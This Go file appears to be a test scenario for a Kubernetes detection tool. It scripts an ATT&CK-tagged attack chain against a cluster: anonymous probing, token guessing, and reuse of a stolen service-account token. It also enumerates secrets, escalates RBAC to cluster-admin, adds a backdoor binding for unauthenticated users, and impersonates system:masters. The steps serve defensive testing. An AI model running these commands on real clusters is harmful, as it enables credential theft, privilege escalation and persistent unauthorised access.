package play

import (
	"fmt"
	"strings"
	"time"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

// Tokens is about credentials in wrong hands: none at all, guessed ones, stolen ones in other places, and those that
// make more of themselves.
func Tokens(s *stage.Stage) {
	c := Found(s)
	street := s.Outside("mallory", attackerHome)
	tor := s.Outside("exit", "198.51.100.200")
	c.Mira.MustApply(clusterAccount("payments", "payments-api", `[{apiGroups: [""], resources: [secrets, configmaps, pods, serviceaccounts], verbs: [get, list]},
  {apiGroups: [""], resources: [serviceaccounts/token], verbs: [create]}, {apiGroups: [rbac.authorization.k8s.io], resources: ["*"], verbs: [get, list, create, bind, escalate, patch]},
  {apiGroups: [""], resources: [users, groups, serviceaccounts], verbs: [impersonate]}]`), "apply", "-f", "-")

	s.Attack("T1613", "Initial Access: Exposed sensitive interfaces", "probes without a credential").
		As(s.Anonymous(street)).Do(func(a *stage.Act) {
		for _, path := range []string{"/version", "/healthz", "/api", "/api/v1/pods", "/api/v1/secrets", "/api/v1/namespaces", "/metrics", "/logs", "/apis/apps/v1/deployments", "/api/v1/nodes/node1/proxy/pods"} {
			a.Request("python-requests/2.32.3", "GET", path, "")
		}
	})
	s.Attack("T1595.002", "Initial Access: Exposed sensitive interfaces", "looks for holes with a scanner").
		As(s.Anonymous(street)).Do(func(a *stage.Act) {
		for _, path := range []string{"/version", "/api/v1/pods", "/apis/rbac.authorization.k8s.io/v1/clusterroles"} {
			a.Request("kube-hunter/0.6.8", "GET", path, "")
		}
	})
	guess := s.Bearer(street, "guess-1", nil)
	s.Attack("T1110", "Initial Access: Using cloud credentials", "guesses tokens").
		As(guess).Do(func(a *stage.Act) {
		for i := range 15 {
			s.Bearer(street, fmt.Sprintf("guess-%d", i), nil).Request("python-requests/2.32.3", "GET", "/api/v1/namespaces/default/pods", "")
		}
		a.Request("python-requests/2.32.3", "GET", "/api/v1/secrets", "")
	})

	api, web := s.Pod("payments", "app=api"), s.Pod("shop", "app=web")
	token := api.Token() // by a hole in the application: nothing of it in the audit log
	s.Attack("T1550.001", "Lateral Movement: Container service account", "uses the token of "+api.String()+" in "+web.String()).
		As(s.Bearer(web, token, api)).Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/api/v1/namespaces/payments/secrets", "")
		a.Request(curl, "GET", "/api/v1/namespaces/payments/pods", "")
	})
	thief := s.Bearer(street, token, api)
	s.Attack("T1550.001", "Persistence: Container service account", "uses the same token from outside").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("auth", "whoami")
		a.Kubectl("-n", "payments", "get", "pods")
	})
	s.Attack("T1090", "Defense Evasion: Connect from proxy server", "uses the same token from a second address").
		As(s.Bearer(tor, token, api)).Do(func(a *stage.Act) { a.Kubectl("-n", "payments", "get", "configmaps") })
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "tries the names of secrets one after the other").
		As(thief).Do(func(a *stage.Act) {
		for _, name := range []string{"db-credentials", "stripe-key", "api-token", "aws-credentials", "tls-cert", "registry-pull"} {
			a.Request(curl, "GET", "/api/v1/namespaces/payments/secrets/"+name, "")
		}
	})
	var second string
	s.Attack("T1528", "Credential Access: Access container service account", "makes a token for a controller's account").
		As(thief).Do(func(a *stage.Act) {
		second = lastLine(a.Must("-n", "kube-system", "create", "token", "generic-garbage-collector", "--duration=8h"))
	})
	s.Attack("T1550.001", "Lateral Movement: Container service account", "uses that token").
		As(s.Bearer(tor, second, nil)).Do(func(a *stage.Act) {
		a.Kubectl("get", "deployments", "-A")
		a.Kubectl("auth", "can-i", "--list")
	})
	escalate(s, thief)
	impersonate(s, thief)
	ended(s, c, street)
}

// escalate makes more rights out of the right to give them.
func escalate(s *stage.Stage, thief *stage.Actor) {
	s.Attack("T1098.006", "Privilege Escalation: Cluster-admin binding", "gives itself all rights with the verb escalate").
		As(thief).Do(func(a *stage.Act) { a.Must("create", "clusterrole", "payments-view", "--verb=*", "--resource=*.*") })
	s.Attack("T1098.006", "Privilege Escalation: Cluster-admin binding", "binds its account to cluster-admin with the verb bind").
		As(thief).Do(func(a *stage.Act) {
		a.Must("create", "clusterrolebinding", "payments-metrics", "--clusterrole=cluster-admin", "--serviceaccount=payments:payments-api")
	})
	s.Attack("T1098.006", "Persistence: Backdoor account", "lets everybody in without a credential").
		As(thief).Do(func(a *stage.Act) {
		a.Must("create", "clusterrolebinding", "status-page", "--clusterrole=view", "--group=system:unauthenticated")
	})
	s.Attack("T1078", "Initial Access: Exposed sensitive interfaces", "reads without a credential").
		As(s.Anonymous(thief.In)).Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/api/v1/namespaces/payments/pods", "")
		a.Request(curl, "GET", "/api/v1/configmaps", "")
	})
}

// impersonate acts as others.
func impersonate(s *stage.Stage, thief *stage.Actor) {
	for _, who := range [][]string{
		{"anna.keller", "--as-group=devs-payments", "-n", "payments", "get", "secrets"},
		{"helpdesk", "--as-group=system:masters", "get", "secrets", "-A"},
		{"system:node:node1", "--as-group=system:nodes", "get", "pods", "-A"},
		{"system:serviceaccount:kube-system:generic-garbage-collector", "get", "deployments", "-A"},
	} {
		s.Attack("T1134", "Privilege Escalation: Impersonation", "impersonates "+who[0]).
			As(thief).Assuming(who[0]).Do(func(a *stage.Act) { a.Kubectl(append([]string{"--as=" + who[0]}, who[1:]...)...) })
	}
}

// ended uses the token of a pod that has ended, and of one that is gone.
func ended(s *stage.Stage, c *Company, street stage.Place) {
	c.Mira.MustApply(podRunning("payments", "batch-report", imageAPI, "[app, serve]", "serviceAccountName: payments-api", ""), "create", "-f", "-")
	s.Wrote(c.Mira, "payments", "Pod/batch-report")
	batch := s.PodNamed("payments", "batch-report")
	thief := s.Bearer(street, batch.Token(), batch)
	s.Attack("T1550.001", "Persistence: Container service account", "uses the token of "+batch.String()+", which its owner deletes meanwhile").
		As(thief).Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/api/v1/namespaces/payments/pods", "")
		c.Anna.Must("-n", "payments", "delete", "pod", "batch-report", "--now")
		a.Request(curl, "GET", "/api/v1/namespaces/payments/secrets", "")
	})
	s.Sleep(12 * time.Second) // for so long the API server remembers that the token was good
	dead := *thief
	dead.User, dead.Pod = "", nil // no longer accepted: the API server says nothing of whose it was
	s.Attack("T1550.001", "Persistence: Container service account", "tries it again when it is no longer accepted").
		As(&dead).Do(func(a *stage.Act) { a.Request(curl, "GET", "/api/v1/namespaces/payments/secrets", "") })
}

func lastLine(out string) string {
	lines := strings.Split(strings.TrimSpace(out), "\n")
	return lines[len(lines)-1]
}
